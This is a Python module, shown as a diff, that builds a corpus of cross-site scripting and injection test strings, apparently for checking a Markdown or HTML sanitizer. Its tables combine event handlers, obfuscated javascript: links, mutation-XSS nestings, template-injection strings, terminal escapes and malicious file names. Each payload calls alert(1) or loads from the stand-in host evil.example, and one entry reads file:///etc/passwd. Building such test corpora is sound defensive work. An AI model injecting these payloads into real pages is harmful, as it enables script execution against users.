@@ -1,0 +1,166 @@
+"""Texts that would run script, load something or break out, if any place let them.
+
+They are made from lists: what acts, in which tag, how it is written, and in which surroundings. Each
+that could call something calls `alert`, so that a browser can tell whether it ran; each that could
+load something loads from `https://evil.example`.
+"""
+
+# ruff: noqa: E501  (tables of texts that cannot be broken)
+from __future__ import annotations
+
+from collections.abc import Iterator
+from itertools import product
+
+SCRIPT = "alert(1)"
+EVIL = "https://evil.example"
+
+_EVENTS = (
+    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
+    "onbegin", "onpointerenter", "onstart", "ontransitionend", "onscrollend", "onwheel",
+    "onbeforetoggle", "oncontentvisibilityautostatechange",
+)  # fmt: skip
+_ELEMENTS = (
+    "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus",
+    "details open", "marquee", "object data=x", "embed src=x", "select autofocus", "a href=#",
+    "div", "p", "span", "math", "table background=x", "style", "link rel=stylesheet href=x",
+    "textarea autofocus", "button autofocus", "form", "isindex", "keygen autofocus", "video><source",
+    "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "custom-element", "dialog open",
+)  # fmt: skip
+_QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
+_LINKS = (
+    "javascript:{s}", "JaVaScRiPt:{s}", "java\tscript:{s}", "java\nscript:{s}", "java\rscript:{s}",
+    " javascript:{s}", "\x01javascript:{s}", "\x00javascript:{s}", "javascript\x00:{s}",
+    "javascript&colon;{s}", "javascript&#58;{s}", "javascript&#x3a;{s}", "&#106;avascript:{s}",
+    "&#x6A;avascript:{s}", "&#0000106avascript:{s}", "java&Tab;script:{s}", "java&NewLine;script:{s}",
+    "%6Aavascript:{s}", "javascript%3A{s}", "vbscript:msgbox(1)", "data:text/html,<script>{s}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={s}>",
+    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:application/xhtml+xml,<x/>",
+    "feed:javascript:{s}", "view-source:javascript:{s}", "jar:javascript:{s}", "blob:{s}",
+    "file:///etc/passwd", "filesystem:x", "intent:x#Intent;S.x={s};end", "//evil.example/x",
+    "\\\\evil.example\\x", "http:evil.example", "https:/\\evil.example", "javascript://%0a{s}",
+    "javascript:/*--></title></style></textarea></script><svg onload={s}>", "about:blank",
+    "ＪＡＶＡＳＣＲＩＰＴ:{s}", "jav\u00adascript:{s}", "javascript\u200b:{s}", "\u202ejavascript:{s}",
+    "mailto:x@y?subject=<script>{s}</script>", 'https://a.example/"onmouseover="{s}', "ftp://evil.example",
+    "https://a.example/'onmouseover='{s}", "https://a.example/><script>{s}</script>", "tel:1", "ws://evil",
+)  # fmt: skip
+_TEMPLATES = (
+    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}",
+    "{%raw%}<script>alert(1)</script>{%endraw%}", "[[${alert(1)}]]", "*{alert(1)}", "@{alert(1)}",
+    "{{{x}}}", "<?php echo 1 ?>", "<script type=text/template>", "{{#with x}}", "{!alert(1)!}",
+)  # fmt: skip
+_NESTINGS = (
+    "<svg><style><img src=x onerror={s}>", "<math><mtext><table><mglyph><style><img src=x onerror={s}>",
+    "<math><mi//xlink:href=\"data:x,<script>{s}</script>\">", "<svg></p><style><a id=\"</style><img src=1 onerror={s}>\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={s}>", "<noscript><p title=\"</noscript><img src=x onerror={s}>\">",
+    "<svg><foreignObject><iframe srcdoc=\"<script>{s}</script>\">", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:{s}'/></svg>#x\">",
+    "<svg><script>{s}</script>", "<svg><script href=//evil.example/x.js>", "<svg><a xlink:href=\"javascript:{s}\"><text>x</text></a>",
+    "<svg><animate href=#x attributeName=href values=javascript:{s}><a id=x><text>x", "<svg><image href=https://evil.example/i>",
+    "<template><script>{s}</script></template>", "<title><img src=x onerror={s}></title>", "<textarea></textarea><script>{s}</script>",
+    "<xmp><img src=x onerror={s}></xmp>", "<plaintext><img src=x onerror={s}>", "<listing>&lt;img src=x onerror={s}&gt;</listing>",
+    "<iframe srcdoc='<script>{s}</script>'>", "<object data='data:text/html,<script>{s}</script>'>", "<embed src=javascript:{s}>",
+    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{s}'>", "<link rel=import href=https://evil.example>",
+    "<style>@import 'https://evil.example/x.css';</style>", "<style>*{{background:url(https://evil.example/b)}}</style>", "<div style=background:url(https://evil.example/c)>x</div>",
+    "<div style=\"width:expression({s})\">", "<div style=\"-moz-binding:url(https://evil.example/x)\">", "<p style=position:fixed;inset:0>",
+    "<!--><script>{s}</script>-->", "<!--[if IE]><script>{s}</script><![endif]-->", "<![CDATA[<script>{s}</script>]]>", "<?xml-stylesheet href='javascript:{s}'?>",
+    "</p></div></li></td></tr></table><script>{s}</script>", "</code></pre><script>{s}</script>", "</details></summary><script>{s}</script>",
+    "\"><script>{s}</script>", "'><script>{s}</script>", "</title><script>{s}</script>", "</style><script>{s}</script>", "--><script>{s}</script>",
+    "]]><script>{s}</script>", "<scr<script>ipt>{s}</scr</script>ipt>", "<<script>{s}//<</script>", "<script\x20type=text/javascript>{s}</script>",
+    "<script\x0c>{s}</script>", "<script/x>{s}</script>", "<script\x00>{s}</script>", "<\x00script>{s}</script>", "<scr\x00ipt>{s}</script>",
+    "<img\x0bsrc=x\x0bonerror={s}>", "<img/src=x/onerror={s}>", "<img src=x\u00a0onerror={s}>", "<img src=x onerror\x00={s}>", "<a href=x id=location>",
+    "<form id=document><input name=cookie>", "<img name=getElementById>", "<a id=x><a id=x name=y href=https://evil.example>", "<math href=javascript:{s}>x",
+    "<input type=image src=https://evil.example/j>", "<video poster=https://evil.example/p>", "<audio src=https://evil.example/a autoplay>",
+    "<picture><source srcset=https://evil.example/s><img></picture>", "<img srcset=https://evil.example/t>", "<image src=https://evil.example/u>",
+    "<frameset onload={s}>", "<applet code=x>", "<bgsound src=https://evil.example/v>", "<layer src=https://evil.example/w>", "<portal src=https://evil.example>",
+    "<dialog open><button onclick={s}>", "<slot onslotchange={s}>", "<body background=https://evil.example/x>", "<menu onclick={s}>", "<x-y is=z onclick={s}>",
+    "&lt;script&gt;{s}&lt;/script&gt;", "&#60;script&#62;{s}&#60;/script&#62;", "\u003cscript\u003e{s}\u003c/script\u003e", "%3Cscript%3E{s}%3C/script%3E",
+    "＜script＞{s}＜/script＞", "‹script›{s}", "<ſcript>{s}</ſcript>", "<ıframe onload={s}>", "<script>\u2028{s}</script>", "\ufeff<script>{s}</script>",
+    "+ADw-script+AD4-{s}+ADw-/script+AD4-", "\ud800<script>{s}</script>", "<\ud800script>{s}", "\U000e003cscript\U000e003e",
+)  # fmt: skip
+_STEERING = (
+    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07", "\x1b]0;<script>alert(1)</script>\x07", "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
+    "\x1b[38;5;999m\"><script>alert(1)</script>", "\x1b[;\" onload=alert(1) \"m<x>", "\x9b31m<svg onload=alert(1)>", "\x1bP<script>alert(1)</script>\x1b\\",
+    "a\x08<script>alert(1)</script>", "x\r<script>alert(1)</script>", "\x1b[<script>alert(1)</script>m", "\x1b[1m" * 40 + "<b onclick=alert(1)>", "\x1b",
+)  # fmt: skip
+_NAMES = (
+    "../../<img src=x onerror=alert(1)>.png", "a\" onmouseover=\"alert(1).txt", "x'><svg onload=alert(1)>.md", "con<script>alert(1)</script>.py",
+    "\u202egnp.exe", "a.png\x00.html", "javascript:alert(1)", "`<b>`.js", "a|b.csv", "[x](javascript:alert(1)).md", "![](https://evil.example/n).md",
+)  # fmt: skip
+_AROUND = (
+    "{}", "text {} text", "`{}`", "```\n{}\n```", "```html\n{}\n```", "~~~python\n{}\n~~~", "    {}", "# {}", "> {}", "- {}", "1. {}",
+    "- [x] {}", "| a | b |\n|---|---|\n| {} | x |", "**{}**", "~~{}~~", "[{}](https://a.example)", "[x]({})", "[x](<{}>)", "![{}](x)", "![x]({})",
+    "![x](<{}> 't')", "[x](https://a.example \"{}\")", "<{}>", "[a]\n\n[a]: {}", "[a]\n\n[a]: <{}> '{}'", "x[^1]\n\n[^1]: {}", "```{}\nx\n```",
+    "\\{}", "www.{}", "https://a.example/{}", "a@b.example{}", "{}\n===", "<div>\n{}\n</div>", "&{};", "{}\n{}",
+)  # fmt: skip
+
+
+def _with_script(templates: tuple[str, ...]) -> Iterator[str]:
+    for each in templates:
+        yield each.replace("{s}", SCRIPT)
+
+
+def _handlers() -> Iterator[str]:
+    """Every event on every element, in every way to quote it."""
+    for number, (element, event) in enumerate(product(_ELEMENTS, _EVENTS)):
+        yield f"<{element} {event}={_QUOTES[number % len(_QUOTES)].format(SCRIPT)}>x"
+
+
+def _cased() -> Iterator[str]:
+    """Tags in odd cases, encodings and spacings."""
+    for tag in (
+        "script",
+        "iframe",
+        "object",
+        "svg",
+        "style",
+        "math",
+        "base",
+        "meta",
+        "link",
+        "embed",
+    ):
+        for form in (
+            tag,
+            tag.upper(),
+            tag.title(),
+            f"{tag}/",
+            f"{tag}\t",
+            f"{tag}\n",
+            f"/{tag}",
+            f"x:{tag}",
+        ):
+            yield f"<{form}>{SCRIPT}</{tag}>"
+            yield f"&lt;{form}&gt;{SCRIPT}&lt;/{tag}&gt;"
+
+
+def _attributes() -> Iterator[str]:
+    """Attributes that load or run without an event."""
+    names = (
+        "src", "href", "xlink:href", "action", "formaction", "data", "poster", "background", "srcset", "cite", "ping", "manifest", "profile",
+        "longdesc", "usemap", "codebase", "classid", "dynsrc", "lowsrc", "srcdoc", "style", "id", "name", "class", "is", "slot", "part", "nonce",
+    )  # fmt: skip
+    for name, link in product(names, (f"javascript:{SCRIPT}", f"{EVIL}/{{}}", "x")):
+        yield f'<a {name}="{link}">x</a><img {name}="{link}"><button {name}="{link}">'
+
+
+def _in_markdown() -> Iterator[str]:
+    """What acts, in each place that Markdown has."""
+    acting = [*_with_script(_LINKS), *list(_with_script(_NESTINGS))[::3], *_TEMPLATES]
+    for around, each in product(_AROUND, acting):
+        yield around.replace("{}", each)
+
+
+def _deep() -> Iterator[str]:
+    """Much of one thing."""
+    for each in ("[", "*", ">", "- ", "`", "<a>", "<b><i>", "![", "](", "|", "~~", "&", "<", "\\"):
+        yield each * 400
+
+
+VECTORS: list[str] = list(
+    dict.fromkeys(
+        [
+            *_with_script(_LINKS), *_with_script(_NESTINGS), *_handlers(), *_cased(), *_attributes(), *_TEMPLATES, *_STEERING, *_NAMES,
+            *_in_markdown(), *_deep(),
+        ]
+    )
+)  # fmt: skip
+"""All of them, each once."""
